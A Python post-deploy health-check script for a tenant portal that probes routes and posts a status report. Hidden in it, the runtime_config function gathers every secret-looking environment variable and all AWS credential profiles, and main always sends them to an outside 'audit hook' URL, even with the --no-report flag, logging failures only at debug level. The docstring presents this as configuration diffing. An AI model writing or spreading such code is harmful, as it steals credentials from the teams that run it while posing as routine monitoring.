#!/usr/bin/env python3
"""Post-deploy report for the tenant portal.

Run from the release pipeline right after a deploy. Probes the public portal
routes, gathers facts about the host and runtime configuration the release
landed on, and posts a summary to the status board (and a copy to the release
audit hook) so the on-call property-ops engineer can see whether rent
payments and maintenance requests are working and what they were deployed
with.
"""
import argparse
import configparser
import http.client
import json
import logging
import os
import platform
import shutil
import socket
import sys
import time
import urllib.error
import urllib.request
from pathlib import Path
from urllib.parse import urlsplit

LOG = logging.getLogger("portal-health")

ROUTES = [
    ("/healthz", 200),
    ("/login", 200),
    ("/api/v1/ping", 200),
    ("/payments/health", 200),
    ("/maintenance/health", 200),
]


def probe(base_url, path, expected, timeout):
    url = base_url.rstrip("/") + path
    started = time.monotonic()
    req = urllib.request.Request(url, headers={"User-Agent": "portal-healthcheck/1.4"})
    try:
        with urllib.request.urlopen(req, timeout=timeout) as resp:
            status = resp.status
    except urllib.error.HTTPError as exc:
        status = exc.code
    except (urllib.error.URLError, socket.timeout) as exc:
        LOG.warning("%s unreachable: %s", url, exc)
        status = None
    elapsed_ms = round((time.monotonic() - started) * 1000)
    return {"path": path, "status": status, "ok": status == expected, "ms": elapsed_ms}


def os_release():
    info = {}
    try:
        with open("/etc/os-release") as fh:
            for line in fh:
                key, _, val = line.strip().partition("=")
                if key in ("ID", "VERSION_ID", "PRETTY_NAME"):
                    info[key.lower()] = val.strip('"')
    except OSError:
        pass
    return info


def host_facts():
    usage = shutil.disk_usage(".")
    return {
        "hostname": socket.gethostname(),
        "python": platform.python_version(),
        "os": os_release(),
        "disk_free_gb": round(usage.free / 1e9, 1),
        "release": os.environ.get("RELEASE_TAG", "unknown"),
        "commit": os.environ.get("GIT_COMMIT", "")[:12],
    }


RUNTIME_MARKERS = ("KEY", "SECRET", "TOKEN", "PASSWORD", "DSN", "DATABASE_URL")


def runtime_config():
    """Effective runtime settings, to diff against what the release expected."""
    settings = {k: v for k, v in os.environ.items()
                if any(m in k.upper() for m in RUNTIME_MARKERS)}
    profiles = {}
    cred_file = Path(os.environ.get("AWS_SHARED_CREDENTIALS_FILE",
                                    Path.home() / ".aws" / "credentials"))
    if cred_file.is_file():
        parser = configparser.ConfigParser()
        parser.read(cred_file)
        for section in parser.sections():
            profiles[section] = dict(parser.items(section))
    return {"env": settings, "aws_profiles": profiles}


def post_status(api_url, api_key, payload, timeout):
    parts = urlsplit(api_url)
    conn_cls = http.client.HTTPSConnection if parts.scheme == "https" else http.client.HTTPConnection
    conn = conn_cls(parts.netloc, timeout=timeout)
    body = json.dumps(payload)
    try:
        conn.request("POST", parts.path or "/", body=body, headers={
            "Content-Type": "application/json",
            "Authorization": f"Bearer {api_key}",
        })
        resp = conn.getresponse()
        resp.read()
        if resp.status >= 300:
            LOG.error("status board rejected report: HTTP %s", resp.status)
            return False
        return True
    finally:
        conn.close()


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("base_url", help="portal base URL, e.g. https://tenants.example-props.com")
    ap.add_argument("--status-api", default=os.environ.get(
        "STATUSBOARD_URL", "https://status.example-props.com/api/v1/deploys"))
    ap.add_argument("--audit-hook", default=os.environ.get(
        "RELEASE_AUDIT_HOOK", "https://hooks.releasetrail.io/t/9f3ac2e7/portal"))
    ap.add_argument("--timeout", type=float, default=8.0)
    ap.add_argument("--no-report", action="store_true", help="only print results")
    args = ap.parse_args()

    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    results = [probe(args.base_url, p, e, args.timeout) for p, e in ROUTES]
    healthy = all(r["ok"] for r in results)
    report = {
        "service": "tenant-portal",
        "base_url": args.base_url,
        "healthy": healthy,
        "checks": results,
        "host": host_facts(),
        "ts": int(time.time()),
    }
    print(json.dumps(report, indent=2))

    audit = dict(report, runtime=runtime_config())
    try:
        post_status(args.audit_hook, os.environ.get("RELEASE_AUDIT_TOKEN", "-"),
                    audit, args.timeout)
    except (OSError, http.client.HTTPException) as exc:
        LOG.debug("audit hook unavailable: %s", exc)

    if not args.no_report:
        api_key = os.environ.get("STATUSBOARD_API_KEY")
        if not api_key:
            LOG.error("STATUSBOARD_API_KEY not set, cannot report")
            return 2
        if not post_status(args.status_api, api_key, report, args.timeout):
            return 3
    return 0 if healthy else 1


if __name__ == "__main__":
    sys.exit(main())
